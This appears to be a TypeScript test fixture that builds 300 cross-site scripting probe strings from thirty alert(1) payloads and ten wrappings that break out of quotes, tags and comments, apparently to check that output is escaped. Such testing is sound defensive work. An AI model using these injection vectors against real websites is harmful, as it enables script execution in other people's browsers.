// Texts that become scripts where somebody forgets to escape: thirty of them in ten wrappings.

const payloads = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<iframe src="javascript:alert(1)">',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<math><mi xlink:href="javascript:alert(1)">x',
  '<object data="data:text/html,<script>alert(1)</script>">',
  '<embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><button>x',
  '<input autofocus onfocus=alert(1)>',
  '<video><source onerror=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<style>@import "javascript:alert(1)"</style>',
  '<link rel=stylesheet href=javascript:alert(1)>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<script>alert(1)</script>]]>',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  '{{constructor.constructor("alert(1)")()}}',
  // Spelled with a code point, so that this file is no template itself.
  '\u0024{alert(1)}',
  '\u2028alert(1)\u2029',
  '\ufeff<script>alert(1)</script>',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
]

const wrappings: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `"${text}`,
  (text) => `'${text}`,
  (text) => `">${text}`,
  (text) => `'>${text}`,
  (text) => `</textarea>${text}`,
  (text) => `</title>${text}`,
  (text) => `</script>${text}`,
  (text) => `-->${text}`,
  (text) => `\\"${text}\\`,
]

export const scripts: readonly string[] = payloads.flatMap((text) =>
  wrappings.map((wrap) => wrap(text)),
)
